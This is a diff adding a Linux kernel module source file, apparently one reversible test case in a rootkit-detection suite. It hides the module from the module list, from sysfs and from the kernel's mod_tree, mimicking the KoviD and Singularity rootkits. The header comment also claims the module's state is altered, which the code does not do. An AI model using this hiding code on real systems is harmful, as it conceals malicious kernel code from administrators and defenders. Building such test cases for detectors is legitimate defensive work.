@@ -1,0 +1,64 @@
+// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
+/*
+ * The module is in no list, not in sysfs and not in the tree by which the kernel finds the module
+ * of an address, and its own structure says that it is not loaded: what KoviD and Singularity do.
+ */
+#include "attack.h"
+
+#include <linux/rbtree_latch.h>
+
+static struct list_head *before;
+static enum module_state state;
+
+static void in_tree(bool in)
+{
+	struct latch_tree_root *tree = (struct latch_tree_root *)symbol("mod_tree");
+	struct module *module = THIS_MODULE;
+#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
+	struct latch_tree_node *node = &module->mem[MOD_TEXT].mtn.node;
+#else
+	struct latch_tree_node *node = &module->core_layout.mtn.node;
+#endif
+	int copy;
+
+	/* Both copies of the latched tree; the root is the first thing in mod_tree behind a
+	 * counter. */
+	for (copy = 0; tree && copy < 2; copy++) {
+		struct rb_root *root = &tree->tree[copy];
+		struct rb_node **link = &root->rb_node, *parent = NULL;
+		struct rb_node *ours = &node->node[copy];
+
+		if (!in) {
+			rb_erase(ours, root);
+			continue;
+		}
+		while (*link) {
+			parent = *link;
+			link = (unsigned long)ours < (unsigned long)parent ? &parent->rb_left
+									   : &parent->rb_right;
+		}
+		rb_link_node(ours, parent, link);
+		rb_insert_color(ours, root);
+	}
+}
+
+static int attack(void)
+{
+	before = THIS_MODULE->list.prev;
+	list_del(&THIS_MODULE->list);
+	kobject_del(&THIS_MODULE->mkobj.kobj);
+	in_tree(false);
+	state = THIS_MODULE->state;
+	return 0;
+}
+
+static void undo(void)
+{
+	in_tree(true);
+	list_add(&THIS_MODULE->list, before);
+	if (kobject_add(&THIS_MODULE->mkobj.kobj, THIS_MODULE->mkobj.kobj.parent, "%s",
+			THIS_MODULE->name))
+		pr_err("attack: /sys/module/%s is not back\n", THIS_MODULE->name);
+}
+
+ATTACK("a module that is in no view of modules");
